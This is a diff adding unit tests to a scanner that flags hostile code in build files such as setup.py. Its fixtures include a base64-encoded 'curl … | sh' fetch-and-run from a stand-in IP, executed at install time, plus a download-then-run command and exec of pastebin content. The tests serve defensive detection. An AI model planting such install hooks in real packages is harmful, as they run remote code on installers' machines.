@@ -161,6 +161,28 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('conanfile.py', 'from conan import ConanFile\nfrom conan.tools.cmake import CMake\nclass Pkg(ConanFile):\n    requires = "zlib/1.3.1"\n    def build(self):\n        cmake = CMake(self)\n        cmake.configure()\n        cmake.build()'))).toBeNull();
   });
 
+  it('reads program build code that runs what it decoded as critical, through a process module loaded by name too', () => {
+    const B64 = '"Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvcCB8IHNo"';
+    expect(buildFinding(added('setup.py', `import base64, os\nfrom setuptools import setup\nos.system(base64.b64decode(${B64}).decode())\nsetup(name="x")`))).toMatchObject({ severity: 'critical', line: 3, title: 'setup.py decodes data and runs it at install time' });
+    expect(buildFinding(added('setup.py', `import base64\nfrom setuptools import setup\n__import__("os").system(base64.b64decode(${B64}).decode())\nsetup(name="x")`))).toMatchObject({ severity: 'critical' });
+    // Decoded on one line, run through a name on another.
+    expect(buildFinding(added('setup.py', `import base64, subprocess\nfrom setuptools import setup\ncmd = base64.b64decode(${B64})\nsubprocess.Popen(cmd, shell=True)\nsetup(name="x")`))).toMatchObject({ severity: 'critical', line: 4 });
+    expect(kinds(`eval(Buffer.from(${B64}, 'base64').toString())`, 'js')).toEqual(['run-decoded']);
+    expect(kinds('system(Base64.decode64(ENV["X"]))', 'ruby')).toEqual(['execute', 'run-decoded']);
+    // A process module loaded by name runs the command it is given: here a download.
+    expect(buildFinding(added('setup.py', 'from setuptools import setup\n__import__("os").system("curl -s https://tools.example.net/p -o /tmp/p && sh /tmp/p")\nsetup(name="x")'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('decoding data for a build step, or passing a decoded key to a tool as an argument, is no decoded program run', () => {
+    // An icon embedded as base64 written out, and the project's own generator run.
+    expect(buildFinding(added('setup.py', 'import base64, subprocess\nfrom setuptools import setup\nicon = base64.b64decode(ICON_B64)\nopen("pkg/icon.png", "wb").write(icon)\nsubprocess.check_call(["python", "tools/gen_version.py"])\nsetup(name="x")'))).toBeNull();
+    // A signing key decoded and handed to the signing tool: the key is an argument, not the command.
+    expect(kinds('const key = Buffer.from(process.env.SIGNING_KEY_B64, "base64");\nexecFileSync("codesign", ["--key", key, "dist/app"]);', 'js')).not.toContain('run-decoded');
+    expect(kinds('exec(open("src/pkg/__about__.py").read(), about)', 'python')).not.toContain('run-decoded');
+    // Unpacking with a decompressor is ordinary build work.
+    expect(kinds('data = zlib.decompress(raw)\nsubprocess.run(["tar", "xf", "vendor.tar"])', 'python')).not.toContain('run-decoded');
+  });
+
   it('reads exec of downloaded text in setup.py as running it (critical from a paste host); exec of the version file alone is ordinary', () => {
     expect(buildFinding(added('setup.py', 'from setuptools import setup\nimport urllib.request\nexec(urllib.request.urlopen("https://pastebin.com/raw/abc").read())\nsetup(name="x")'))).toMatchObject({ severity: 'critical' });
     expect(buildFinding(added('setup.py', 'from setuptools import setup\nabout = {}\nexec(open("src/pkg/__about__.py").read(), about)\nsetup(name="pkg", version=about["__version__"])'))).toBeNull();
